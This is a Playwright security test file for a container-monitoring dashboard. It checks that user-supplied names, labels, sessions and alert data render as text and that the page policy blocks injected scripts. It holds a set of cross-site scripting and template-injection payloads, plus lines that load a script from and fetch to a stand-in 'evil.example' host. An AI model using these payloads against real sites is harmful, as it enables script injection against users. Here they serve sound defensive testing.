import type { Page } from '@playwright/test';
import { connect, type NatsConnection } from '@nats-io/transport-node';
import { localBroker } from '../bench/src/fleet/broker-address.ts';
import { aContainerEvent, aHostReport, aStatsRow, aStatsSweep } from '../libs/testing/src/builders/containers.ts';
import { signIn } from './sign-in.ts';
import { expect, test } from './test.ts';

/** Text that would run if anything took it for more than text. */
const IMAGE = `<img src=x onerror="window.ran='image'">`;
const VECTOR = `"><svg onload="window.ran='vector'">`;
const SCRIPT = `<script>window.ran='script'</script>`;
const LINK = `javascript:window.ran='link'`;
const TEMPLATE = `{{constructor.constructor("window.ran='template'")()}}`;
const ATTRIBUTE = `' autofocus onfocus='window.ran="attribute"' x='`;
const HOST = 'mallory';
const ID = '0123456789ab';

/** What would have run, loaded or been blocked on the way. */
interface Watched extends Window {
  ran?: string;
  blocked?: string[];
}

test.describe('[chromium] [nats] [redis] text of others that would run', () => {
  let broker: NatsConnection;
  let playing: NodeJS.Timeout;
  let container: ReturnType<typeof aContainerEvent>;
  /** Answered when it is stored. */
  const tell = (event: object) => broker.request(`deckwatch.containers.${HOST}.${ID}`, JSON.stringify(event));

  test.beforeAll(async ({ stack }) => {
    const { host, username: user, password: pass } = new URL(localBroker(stack.data));
    broker = await connect({ servers: host, user, pass });
    const labels = { image: IMAGE, [VECTOR]: 'as a name', script: SCRIPT, link: LINK, template: TEMPLATE, attribute: ATTRIBUTE }; // prettier-ignore
    container = aContainerEvent({ host: HOST, id: ID, t: Date.now(), name: IMAGE, image: VECTOR, project: SCRIPT, service: TEMPLATE, labels }); // prettier-ignore
    const play = (): void => {
      const t = Date.now();
      broker.publish(`deckwatch.hosts.${HOST}`, JSON.stringify(aHostReport({ host: HOST, t })));
      broker.publish(`deckwatch.stats.${HOST}`, JSON.stringify(aStatsSweep({ host: HOST, t, rows: [aStatsRow(ID, { cpu: 90 })] as never }))); // prettier-ignore
    };
    play();
    playing = setInterval(play, 1000);
    await tell(container);
  });
  test.afterAll(async () => {
    clearInterval(playing);
    await tell({ ...container, t: Date.now(), event: 'removed' });
    await broker.close();
  });

  test('names, labels, session users and attributes, rules, tokens: shown as text, and nothing runs', async ({
    page,
    context,
    stack,
  }) => {
    const headers = { authorization: `Bearer ${await signIn(context, stack.url)}` };
    const post = async (path: string, data: object): Promise<void> => {
      const answer = await context.request.post(`${stack.url}/api/v1${path}`, { headers, data });
      expect([path, answer.ok(), answer.ok() ? '' : await answer.text()]).toEqual([path, true, '']);
    };
    await post('/ingest/sessions', { app: 'shop', id: 'hostile', user: IMAGE, op: 'start', attrs: { note: SCRIPT, [VECTOR]: LINK } }); // prettier-ignore
    await post('/alert-rules', { name: IMAGE, target: 'container', select: { host: HOST }, condition: { metric: 'cpu', op: '>', value: 1 } }); // prettier-ignore
    await post('/tokens', { name: VECTOR, role: 'viewer' });
    await post('/silences', { matchers: { name: 'nothing' }, endsAt: Date.now() + 60_000, comment: SCRIPT });
    const firing = async (): Promise<string | undefined> => {
      const answer = await context.request.get(`${stack.url}/api/v1/alerts?state=firing`);
      const { items } = (await answer.json()) as { items: { id: string; rule: { name: string } }[] };
      return items.find(({ rule }) => rule.name === IMAGE)?.id;
    };
    await expect.poll(firing).toBeDefined();
    await post(`/alerts/${await firing()}/ack`, { note: LINK });
    await watch(page);
    const shows = async (path: string, ...texts: string[]): Promise<void> => {
      await page.goto(stack.url + path);
      for (const text of texts) await expect(page.getByText(text).first()).toBeAttached();
      expect([path, await page.evaluate(damage)]).toEqual([path, { ran: undefined, blocked: [], foreign: 0 }]);
    };
    await shows('/overview', IMAGE);
    await shows('/containers', IMAGE, SCRIPT);
    await shows(`/containers/${HOST}/${ID}`, IMAGE, VECTOR, SCRIPT, LINK, TEMPLATE, ATTRIBUTE);
    await shows('/sessions', IMAGE);
    await shows('/sessions/shop/hostile', IMAGE, SCRIPT, VECTOR, LINK);
    await shows('/alerts', IMAGE, LINK);
    await shows('/alerts/rules', IMAGE);
    await shows('/alerts/silences', SCRIPT);
    await shows('/settings', VECTOR, IMAGE.slice(0, 8));
    await shows(`/containers?q=${encodeURIComponent(IMAGE)}`, IMAGE);
  });

  test('should it ever get into the page, it is not run: scripts come from files of ours alone', async ({
    page,
    stack,
  }) => {
    await watch(page);
    await page.goto(`${stack.url}/overview`);
    const tried = await page.evaluate((html) => {
      const outcome = (attempt: () => void): string => {
        try {
          attempt();
          return 'taken';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const add = <K extends 'script' | 'div'>(tag: K): HTMLElementTagNameMap[K] => document.body.appendChild(document.createElement(tag)); // prettier-ignore
      return {
        markup: outcome(() => (add('div').innerHTML = html)),
        inline: outcome(() => (add('script').textContent = "window.ran='inline'")),
        address: outcome(() => (add('script').src = 'https://evil.example/x.js')),
      };
    }, IMAGE + VECTOR);
    expect(tried).toEqual({ markup: 'TypeError', inline: 'TypeError', address: 'TypeError' });
    await expect.poll(() => page.evaluate(() => (window as Watched).blocked?.length ?? 0)).toBeGreaterThan(0);
    expect(await page.evaluate(() => (window as Watched).ran)).toBeUndefined();
    expect(await page.evaluate(() => fetch('https://evil.example/').then(() => 'sent', () => 'not sent'))).toBe('not sent'); // prettier-ignore
  });
});

/** Notes what the page's policy blocks, and fails on any dialog. */
async function watch(page: Page): Promise<void> {
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog: ${dialog.message()}`);
  });
  await page.addInitScript(() => {
    const blocked: string[] = ((window as Watched).blocked = []);
    addEventListener('securitypolicyviolation', ({ violatedDirective }) => blocked.push(violatedDirective));
  });
}

function damage(): { ran: string | undefined; blocked: string[] | undefined; foreign: number } {
  const { ran, blocked } = window as Watched;
  const foreign = document.querySelectorAll('img[src="x"], [onload], [onerror], [onfocus], a[href^="javascript:"], body script:not([src])').length; // prettier-ignore
  return { ran, blocked, foreign };
}
